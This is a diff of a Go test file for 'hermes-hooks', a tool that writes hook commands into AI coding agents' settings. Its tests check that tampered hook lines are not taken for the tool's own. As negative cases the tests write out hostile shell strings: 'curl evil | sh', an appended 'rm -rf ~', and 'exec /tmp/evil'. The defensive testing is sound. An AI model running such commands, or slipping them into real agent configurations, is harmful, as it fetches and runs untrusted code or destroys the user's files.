@@ -4,6 +4,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/hermes-hooks/hermes-hooks/internal/shquote"
 )
 
 // The command lines install writes are recognised as ours (so that a
@@ -19,7 +21,26 @@ func TestIsOwnCommand(t *testing.T) {
 		{"absolute, no event (an old install)", "'/usr/bin/hermes-hooks' hook codex", "codex", true},
 		{"absolute with event (an old install)", "'/home/you/go/bin/hermes-hooks' hook claude PreToolUse", "claude", true},
 		{"absolute with a quote in the path", "'/x/it'\\''s/hermes-hooks' hook claude Stop --agent-timeout 600", "claude", true},
-		{"absolute, today's", claude.HookCommand("/opt/hermes-hooks", "PreToolUse"), "claude", true},
+		{"absolute, today's, gating", claude.HookCommand("/opt/hermes-hooks", "PreToolUse"), "claude", true},
+		{"absolute, today's, non-gating", claude.HookCommand("/opt/hermes-hooks", "Stop"), "claude", true},
+		{"absolute, today's, refusal on stderr", kiro.HookCommand("/opt/hermes-hooks", "preToolUse"), "kiro", true},
+		{"absolute, today's, a quote and a space in the path", claude.HookCommand("/x/it's a/hermes-hooks", "PreToolUse"), "claude", true},
+		{"absolute, today's, drive letter", claude.HookCommand("C:/x/hermes-hooks.exe", "Stop"), "claude", true},
+		{"absolute, today's, another agent's", claude.HookCommand("/opt/hermes-hooks", "PreToolUse"), "codex", false},
+		{"guard tests one path, runs another", "[ -f '/opt/hermes-hooks' ] && [ -x '/opt/hermes-hooks' ] || exit 0; exec '/tmp/evil' hook claude Stop", "claude", false},
+		{"guard's -f and -x on different paths", "[ -f '/opt/hermes-hooks' ] && [ -x '/tmp/evil' ] || exit 0; exec '/tmp/evil' hook claude Stop", "claude", false},
+		{"guard runs hermes-hooks from PATH", "[ -f '/opt/hermes-hooks' ] && [ -x '/opt/hermes-hooks' ] || exit 0; exec hermes-hooks hook claude Stop", "claude", false},
+		{"guard then a command after ours", claude.HookCommand("/opt/hermes-hooks", "Stop") + "; rm -rf ~", "claude", false},
+		{"guard then more words", claude.HookCommand("/opt/hermes-hooks", "Stop") + " now", "claude", false},
+		{"something else in the guard's answer", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] || { curl evil | sh; exit 2; }; exec '/a/hermes-hooks' hook claude PreToolUse", "claude", false},
+		{"guard's answer ends in something else", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] || { printf '%s' 'x'; true; }; exec '/a/hermes-hooks' hook claude PreToolUse", "claude", false},
+		{"guard without exec", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] || exit 0; '/a/hermes-hooks' hook claude Stop", "claude", false},
+		{"guard with && for ||", "[ -f '/a/hermes-hooks' ] && [ -x '/a/hermes-hooks' ] && exit 0; exec '/a/hermes-hooks' hook claude Stop", "claude", false},
+		{"guard with -x only", "[ -x '/a/hermes-hooks' ] || exit 0; exec '/a/hermes-hooks' hook claude Stop", "claude", false},
+		{"guard on a relative path", "[ -f 'a/hermes-hooks' ] && [ -x 'a/hermes-hooks' ] || exit 0; exec 'a/hermes-hooks' hook claude Stop", "claude", false},
+		{"guard's path unquoted", "[ -f /a/hermes-hooks ] && [ -x /a/hermes-hooks ] || exit 0; exec /a/hermes-hooks hook claude Stop", "claude", false},
+		{"guard's quote closed early", `[ -f '/a'x' ] && [ -x '/a'x' ] || exit 0; exec '/a'x' hook claude Stop`, "claude", false},
+		{"exec before an older bare path", "exec '/a/hermes-hooks' hook claude Stop", "claude", false},
 		{"PATH form, gating (JSON on stdout)", claude.HookCommand("", "PreToolUse"), "claude", true},
 		{"PATH form, non-gating", claude.HookCommand("", "Stop"), "claude", true},
 		{"PATH form, refusal on stderr", kiro.HookCommand("", "preToolUse"), "kiro", true},
@@ -46,13 +67,19 @@ func TestIsOwnCommand(t *testing.T) {
 // the user's runs the absolute path. Both pass the agent's deadline.
 func TestHookCommandForms(t *testing.T) {
 	claude, _ := Lookup("claude")
-	if got, want := claude.HookCommand("/opt/bin/hermes-hooks", "PreToolUse"), "'/opt/bin/hermes-hooks' hook claude PreToolUse --agent-timeout 600"; got != want {
-		t.Errorf("absolute form = %q, want %q", got, want)
+	if got, want := claude.HookCommand("/opt/bin/hermes-hooks", "Stop"), "[ -f '/opt/bin/hermes-hooks' ] && [ -x '/opt/bin/hermes-hooks' ] || exit 0; exec '/opt/bin/hermes-hooks' hook claude Stop --agent-timeout 600"; got != want {
+		t.Errorf("absolute form, non-gating = %q, want %q", got, want)
+	}
+	got := claude.HookCommand("/opt/it's/hermes-hooks", "PreToolUse")
+	const q = `'/opt/it'\''s/hermes-hooks'`
+	if !strings.HasPrefix(got, `[ -f `+q+` ] && [ -x `+q+` ] || { printf '%s\n' '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny","permissionDecisionReason":"`+MissingProgramReason+`"}}'; `) ||
+		!strings.HasSuffix(got, ">&2; exit 2; }; exec "+q+" hook claude PreToolUse --agent-timeout 600") {
+		t.Errorf("absolute form, gating = %q; want Claude Code's deny printed when the program is not an executable file, exit 2, then exec", got)
 	}
 	if got, want := claude.HookCommand("", "Stop"), "command -v hermes-hooks >/dev/null 2>&1 || exit 0; exec hermes-hooks hook claude Stop --agent-timeout 600"; got != want {
 		t.Errorf("PATH form, non-gating = %q, want %q", got, want)
 	}
-	got := claude.HookCommand("", "PreToolUse")
+	got = claude.HookCommand("", "PreToolUse")
 	if !strings.HasPrefix(got, `command -v hermes-hooks >/dev/null 2>&1 || { printf '%s\n' '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny"`) ||
 		!strings.HasSuffix(got, ">&2; exit 2; }; exec hermes-hooks hook claude PreToolUse --agent-timeout 600") {
 		// Exit 2 and the reason on stderr as well: VS Code runs this
@@ -70,6 +97,21 @@ func TestHookCommandForms(t *testing.T) {
 	}
 	if old := Script("'/b/hermes-hooks' hook cline PreToolUse"); !IsOwnScript(old, "cline") {
 		t.Errorf("a script an older install wrote is no longer ours: %q", old)
+	}
+	abs := cline.HookCommand("/b/hermes-hooks", "PreToolUse")
+	script = string(Script(abs))
+	if script != "#!/bin/sh\n"+scriptMarker+abs+"\n" || !IsOwnScript([]byte(script), "cline") {
+		t.Errorf("Cline's script for the absolute form is %q; want the guarded line as its body, recognised as ours", script)
+	}
+	for _, bad := range []string{
+		"#!/bin/sh\n" + scriptMarker + "exec " + abs + "\n",                                 // exec of the guard: runs [
+		"#!/bin/sh\n" + scriptMarker + "exec " + cline.HookCommand("", "PreToolUse") + "\n", // exec of command -v
+		"#!/bin/sh\n" + scriptMarker + "'/b/hermes-hooks' hook cline PreToolUse\n",          // a bare path without exec
+		"#!/bin/sh\n" + scriptMarker + abs + "\nrm -rf ~\n",
+	} {
+		if IsOwnScript([]byte(bad), "cline") {
+			t.Errorf("%q is read as a script of ours", bad)
+		}
 	}
 }
 
@@ -122,6 +164,49 @@ func FuzzIsOwnCommand(f *testing.F) {
 			}
 			if IsOwnCommand(cmd, a.Name+"x") {
 				t.Fatalf("%q is recognised as another agent's", cmd)
+			}
+			if got, ok := OwnProgram(cmd); !ok || got != exe {
+				t.Fatalf("%q runs %q, read as %q", cmd, exe, got)
+			}
+			if exe == "" {
+				continue
+			}
+			// The path exec'd changed, the path tested left: not ours.
+			other := strings.Replace(cmd, "; exec "+shquote.Quote(exe)+" hook ", "; exec "+shquote.Quote(exe+"x")+" hook ", 1)
+			if IsOwnCommand(other, "") {
+				t.Fatalf("%q tests one path and runs another, yet is read as ours", other)
+			}
+		}
+	})
+}
+
+// FuzzOwnCommandAsShReadsIt: whatever line is read as ours, what it runs
+// is what sh runs: the absolute program read back is the one its guard
+// tests, quoted as HookCommand quotes it, and the PATH form runs
+// hermes-hooks from PATH.
+func FuzzOwnCommandAsShReadsIt(f *testing.F) {
+	claude, _ := Lookup("claude")
+	f.Add(claude.HookCommand("/opt/it's/hermes-hooks", "PreToolUse"))
+	f.Add(claude.HookCommand("", "Stop"))
+	f.Add("'/usr/bin/hermes-hooks' hook codex")
+	f.Add("[ -f '/a' ] && [ -x '/a' ] || exit 0; exec '/b' hook claude Stop")
+	f.Add(`[ -f '/a'\''b' ] && [ -x '/a'\''b' ] || exit 0; exec '/a'\''b' hook claude Stop`)
+	f.Fuzz(func(t *testing.T, cmd string) {
+		l, ok := parseOwn(cmd)
+		switch {
+		case !ok:
+		case l.exe == "":
+			if !strings.HasPrefix(cmd, "command -v hermes-hooks ") || !strings.Contains(cmd, "; exec hermes-hooks hook "+l.agent) {
+				t.Fatalf("%q read as the PATH form", cmd)
+			}
+		case l.guarded:
+			q := shquote.Quote(l.exe)
+			if !strings.HasPrefix(cmd, "[ -f "+q+" ] && [ -x "+q+" ] || ") || !strings.Contains(cmd, "; exec "+q+" hook "+l.agent) {
+				t.Fatalf("%q read as running %q", cmd, l.exe)
+			}
+		default:
+			if !strings.HasPrefix(cmd, shquote.Quote(l.exe)+" hook "+l.agent) {
+				t.Fatalf("%q read as running %q", cmd, l.exe)
 			}
 		}
 	})
